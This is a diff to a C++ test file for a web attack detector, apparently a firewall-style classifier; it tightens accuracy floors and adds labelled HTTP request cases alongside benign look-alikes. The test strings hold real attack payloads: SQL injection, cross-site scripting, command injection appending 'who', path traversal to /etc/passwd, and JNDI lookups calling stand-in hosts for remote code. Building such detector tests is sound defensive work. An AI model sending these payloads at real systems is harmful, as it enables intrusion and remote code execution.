@@ -177,8 +177,8 @@ void CheckCorpus(const CorpusCase& c, const std::filesystem::path& folder) {
 // Floors just below what the sets reached when the rules were last changed (see
 // docs/rules.md): {all attacks, lowest category, highest benign share}, compact then broad.
 constexpr CorpusCase kOwnCorpora[] = {
-    {"train", "train_attacks.tsv", "train_benign.tsv", {82.0, 33.0, 0.0}, {88.5, 55.0, 0.25}},
-    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {79.5, 47.0, 0.5}, {87.0, 73.0, 1.0}},
+    {"train", "train_attacks.tsv", "train_benign.tsv", {82.4, 65.0, 0.0}, {88.6, 75.0, 0.25}},
+    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {79.8, 47.0, 0.5}, {87.3, 73.0, 1.0}},
     {"own", "attacks.tsv", "benign.tsv", {99.5, 99.0, 0.0}, {99.5, 99.0, 0.4}},
 };
 
@@ -264,6 +264,9 @@ constexpr SlotCase kSlotCases[] = {
     {1, false, "get /s?q=it%27s+done--+l%27or%c3%a9al+-- http/1.1"},
     {1, false, "get /api?$filter=name%20eq%20%27bob%27%20and%20startswith(name,%27b%27) http/1.1"},
     {1, false, "get /s?q=choose+or+(select+a+size)+top+10+-- http/1.1"},
+    {1, true, "get /item?id=1%22%20or%20not%208936%3d9933 http/1.1"},
+    {1, true, "get /item?id=(select%20(%27foo%27%20-%201)%20from%20dual) http/1.1"},
+    {1, false, "get /s?q=select+a+dress+from+dual-tone+range http/1.1"},
     // Slot 2: cross-site scripting.
     {2, true, "get /s?q=%3cscript%3ealert(1)%3c/script%3e http/1.1"},
     {2, true, "get /s?q=%22%3e%3cimg%20src%3dx%20onerror%3dprompt(1)%3e http/1.1"},
@@ -272,6 +275,7 @@ constexpr SlotCase kSlotCases[] = {
     {2, false, "get /s?q=javascript+the+good+parts http/1.1"},
     {2, false, "get /s?q=price+%3c+100+and+size+%3e+10 http/1.1"},
     {2, false, "get /forum/post?body=try+%3ccode%3egit+status%3c%2fcode%3e http/1.1"},
+    {2, true, "get /r?u=ja%26tab%3bvascript:x http/1.1"},
     // Slot 3: path traversal, local and remote file inclusion.
     {3, true, "get /download?file=../../../../etc/passwd http/1.1"},
     {3, true, "get /download?file=..%252f..%252f..%252fwindows%252fwin.ini http/1.1"},
@@ -301,6 +305,8 @@ constexpr SlotCase kSlotCases[] = {
     {4, false, "get /s?q=don%27t+stop+believin%27+rock+%27n%27+roll http/1.1"},
     {4, false, "get /graphql?query=%7buser%7bid,name,email%7d%7d http/1.1"},
     {4, false, "get /s?q=%27cat%27+videos+what%27s+new+in+python http/1.1"},
+    {4, true, "get /ping?host=127.0.0.1%3bwho http/1.1"},
+    {4, false, "get /s?q=rock;top+see;history+r%26w http/1.1"},
     // Slot 5: Java, OGNL, JNDI, expression and template injection; Weblogic and Tomcat.
     {5, true, "get / http/1.1\" 200 1 \"-\" \"${jndi:ldap://198.51.100.7/a}\""},
     {5, true, "get /?x=%24%7b%24%7blower:j%7dndi:rmi://evil.example/x%7d http/1.1"},
@@ -320,6 +326,9 @@ constexpr SlotCase kSlotCases[] = {
     {6, false, "get /downloads/setup-3.1.4.zip http/1.1"},
     {6, false, "get /s?q=web.config+transform http/1.1"},
     {6, false, "get /.well-known/security.txt http/1.1"},
+    {6, true, "get /.cursorignore http/1.1"},
+    {6, true, "get /wp-content/error.log http/1.1"},
+    {6, false, "get /blog/cursor-rules-for-ai?page=2 http/1.1"},
     // Slot 7: wider SQL and script keywords.
     {7, true, "get /item?id=5%20and%20sleep(3) http/1.1"},
     {7, true, "get /item?id=1%27%20or%20x%3dx http/1.1"},
